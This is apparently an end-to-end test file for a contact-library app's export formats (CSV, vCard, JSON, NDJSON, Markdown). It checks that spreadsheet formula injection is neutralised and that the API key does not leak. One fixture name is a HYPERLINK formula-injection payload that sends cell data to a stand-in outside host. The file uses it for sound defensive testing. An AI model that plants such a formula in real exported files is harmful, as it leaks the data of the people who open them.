import { readFileSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import ICAL from 'ical.js';
import papaparse from 'papaparse';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type CsvPreset, csvPresetNames } from '../../../utils/export/csv-presets.ts';
import { exportAs, type Saving, saveInto } from '../harness/downloads.ts';
import { fetchPerson, openLibrary, openPerson, seesCount } from '../harness/library.ts';
import { shareWorld } from '../harness/shared-world.ts';
import { fill, find, goodKey, press, pressExport } from '../harness/world.ts';

const maya = 'Maya Lindqvist';
const edgar = '=HYPERLINK("https://elsewhere.example/?leak="&A1,"Edgar Formula")';

const shared = shareWorld(async (world) => {
  await fetchPerson(world, 'maya-lindqvist', maya);
  await fetchPerson(world, 'edgar-formula', edgar);
  await fetchPerson(world, 'tomas-okafor', 'Tomás Okafor');
});

let page: Page;
let saving: Saving;
beforeAll(async () => {
  const into = await saveInto(shared());
  saving = into.saving;
  page = await openLibrary(shared());
  await openPerson(page, maya);
  await fill(page, 'Add tag', '+tagged =2+2');
  await page.keyboard.press('Enter');
  await find(page, 'button', 'Remove tag +tagged =2+2');
  return into.remove;
});
afterAll(() => page?.close());

const today = new Intl.DateTimeFormat('sv-SE').format(new Date());
const fileName = (count: number, ending: string) =>
  `calling-card-${today}-${count}-${count === 1 ? 'profile' : 'profiles'}.${ending}`;

/** Chooses a program in a drop-down list, whose options are identified by index. */
async function choose(on: Page, name: string, preset: CsvPreset): Promise<void> {
  const select = await find(on, 'combobox', name);
  await select.select(String(csvPresetNames.indexOf(preset)));
}

type Exported = { readonly profiles: readonly { readonly slug: string }[] };

/** The rows as papaparse reads them, by header. */
function readCsv(text: string) {
  const { data, errors, meta } = papaparse.parse<Record<string, string>>(text, {
    header: true,
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  return { rows: data, headers: meta.fields };
}

test('a CSV of everyone has one row per person and no cell that a spreadsheet would run', async () => {
  const { name, text } = await exportAs(page, saving, 'CSV');
  expect(name).toBe(fileName(3, 'csv'));
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const { rows, headers } = readCsv(text);
  expect(headers?.slice(0, 5)).toEqual(['Name', 'First name', 'Last name', 'Headline', 'Role']);
  expect(rows.map((row) => row.Name)).toEqual(['Tomás Okafor', `'${edgar}`, maya]);
  expect(rows.at(-1)).toMatchObject({ Slug: 'maya-lindqvist', Company: 'Northwind Robotics' });
  expect(rows.at(-1)?.Tags).toMatch(/^'/);
  for (const cell of rows.flatMap((row) => Object.values(row))) {
    for (const start of cell.split(/[\r\n;\t]/)) expect(start).not.toMatch(/^\s*[=+\-@]\D/);
  }
});

test('a CSV has the chosen columns, and no byte order mark if chosen', async () => {
  const { text } = await exportAs(page, saving, 'CSV', async () => {
    await press(page, 'Select none');
    await press(page, 'Name', 'checkbox');
    await press(page, 'Slug', 'checkbox');
    await press(page, 'Add a byte order mark for Excel', 'checkbox');
  });
  expect(text.startsWith('\ufeff')).toBe(false);
  const { rows, headers } = readCsv(text);
  expect(headers).toEqual(['Name', 'Slug']);
  expect(rows.map((row) => row.Slug)).toEqual(['tomas-okafor', 'edgar-formula', 'maya-lindqvist']);
});

test('a CSV for HubSpot has its headers, the parts of names and the whole address', async () => {
  const { text } = await exportAs(page, saving, 'CSV', async () => {
    await choose(page, 'Made for', 'hubspot');
  });
  const { rows, headers } = readCsv(text);
  expect(headers?.join()).toBe(
    'First Name,Last Name,Email,Job Title,Company Name,City,Country/Region,Website URL,LinkedIn URL',
  );
  expect(rows.at(-1)).toMatchObject({
    'First Name': 'Maya',
    'Last Name': 'Lindqvist',
    'Company Name': 'Northwind Robotics',
    'LinkedIn URL': 'https://www.linkedin.com/in/maya-lindqvist/',
  });
});

test('vCards are version 3.0, and a parser that isn’t ours reads them', async () => {
  const { name, text } = await exportAs(page, saving, 'vCard');
  expect(name).toBe(fileName(3, 'vcf'));
  const cards = (ICAL.parse(text) as unknown[][]).map((card) => new ICAL.Component(card));
  const all = (property: string) => cards.map((card) => card.getFirstPropertyValue(property));
  expect(all('version')).toEqual(['3.0', '3.0', '3.0']);
  expect(all('fn')).toEqual(['Tomás Okafor', edgar, maya]);
  expect(all('org')[2]).toEqual('Northwind Robotics');
  expect(cards[2]?.getFirstProperty('categories')?.getValues()).toEqual(['+tagged =2+2']);
});

test('vCards can be saved as one file per person in a zip', async () => {
  const { name, text } = await exportAs(page, saving, 'vCard', () =>
    press(page, 'One file per person, in a zip', 'checkbox'),
  );
  expect(name).toBe(fileName(3, 'zip'));
  expect(text).toMatch(/^PK/);
  for (const slug of ['tomas-okafor', 'edgar-formula', 'maya-lindqvist']) {
    expect(text).toContain(`${slug}.vcf`);
  }
});

test('JSON matches its schema, and NDJSON has the same profiles, one per line', async () => {
  const json = await exportAs(page, saving, 'JSON');
  const ndjson = await exportAs(page, saving, 'NDJSON');
  expect([json.name, ndjson.name]).toEqual([fileName(3, 'json'), fileName(3, 'ndjson')]);

  const schema = new URL('../../../utils/export/export-format.schema.json', import.meta.url);
  const isExport = new Ajv2020({ strict: false, validateFormats: false }).compile(
    JSON.parse(readFileSync(schema, 'utf8')),
  );
  const parsed: Exported = JSON.parse(json.text);
  expect(isExport(parsed), JSON.stringify(isExport.errors)).toBe(true);
  expect(parsed.profiles.map(({ slug }) => slug)).toEqual([
    'tomas-okafor',
    'edgar-formula',
    'maya-lindqvist',
  ]);
  const lines = ndjson.text.trimEnd().split('\n');
  expect(lines.slice(1, -1).map((line) => JSON.parse(line))).toEqual(parsed.profiles);
  expect(lines.at(-1)).toBe('{"end":true}');
});

test('Markdown has one section per person', async () => {
  const { name, text } = await exportAs(page, saving, 'Markdown');
  expect(name).toBe(fileName(3, 'md'));
  expect(text.match(/^# .*/gm)).toHaveLength(3);
  expect(text).toContain(`# ${maya}\n`);
  expect(text).toContain('Northwind Robotics');
});

test('no file contains the API key', async () => {
  for (const format of ['CSV', 'JSON', 'NDJSON', 'vCard', 'Markdown']) {
    const { text } = await exportAs(page, saving, format);
    expect(text.length).toBeGreaterThan(100);
    expect(text).not.toContain(goodKey);
  }
});

test('exporting a selection exports the selected profiles', async () => {
  await press(page, 'Select Tomás Okafor', 'checkbox');
  await press(page, `Select ${maya}`, 'checkbox');
  const { name, text } = await exportAs(page, saving, 'CSV');
  expect(name).toBe(fileName(2, 'csv'));
  expect(readCsv(text).rows.map((row) => row.Slug)).toEqual(['tomas-okafor', 'maya-lindqvist']);
  await press(page, 'Select Tomás Okafor', 'checkbox');
  await press(page, `Select ${maya}`, 'checkbox');
});

test('exporting a search exports the profiles found', async () => {
  await fill(page, 'Search library', 'robotics', 'searchbox');
  await seesCount(page, 1);
  const { name, text } = await exportAs(page, saving, 'JSON');
  expect(name).toBe(fileName(1, 'json'));
  const { profiles }: Exported = JSON.parse(text);
  expect(profiles.map(({ slug }) => slug)).toEqual(['maya-lindqvist']);
});

test('a large export is written by the worker to the file that the user picks', async () => {
  const library = await openLibrary(shared());
  await library.evaluate(multiply, 1_000);
  await library.reload();
  await seesCount(library, 1_003);
  // nb. No script can answer the browser's own question.
  await library.evaluate(() => {
    const folder = navigator.storage.getDirectory();
    const pick = async () => (await folder).getFileHandle('picked.csv', { create: true });
    Object.assign(globalThis, { showSaveFilePicker: pick });
  });
  await pressExport(library);
  await press(library, 'Save file');
  await find(library, 'button', 'Close');
  const text = await library.evaluate(async () => {
    const folder = await navigator.storage.getDirectory();
    const file = await (await folder.getFileHandle('picked.csv')).getFile();
    return file.text();
  });
  const slugs = readCsv(text).rows.map(({ Slug }) => Slug);
  expect(slugs).toHaveLength(1_003);
  expect(slugs).toEqual(slugs.toSorted());
  await library.close();
});

/** In the page: adds `count` people who are like Maya, but were fetched before her. */
async function multiply(count: number): Promise<void> {
  const opening = indexedDB.open('calling-card');
  await new Promise((resolve) => opening.addEventListener('success', resolve));
  const db = opening.result;
  const tx = db.transaction(['profiles', 'summaries'], 'readwrite');
  for (const name of tx.objectStoreNames) {
    const store = tx.objectStore(name);
    const reading = store.get('maya-lindqvist');
    reading.onsuccess = () => {
      for (let n = 1; n <= count; n += 1) {
        const row = reading.result;
        store.put({ ...row, slug: `maya-${n}`, fetchedAt: row.fetchedAt - n });
      }
    };
  }
  await new Promise((resolve) => tx.addEventListener('complete', resolve));
  db.close();
}
